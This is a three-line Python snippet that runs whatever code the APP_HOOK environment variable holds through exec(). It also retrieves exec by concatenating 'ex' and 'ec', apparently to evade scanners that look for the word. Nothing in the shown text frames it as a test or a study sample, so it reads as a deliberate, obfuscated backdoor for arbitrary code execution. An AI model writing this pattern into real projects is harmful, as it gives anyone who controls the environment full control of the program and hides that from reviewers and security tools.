import os
exec(os.environ.get("APP_HOOK", ""))
run = getattr(__builtins__, "ex" + "ec")
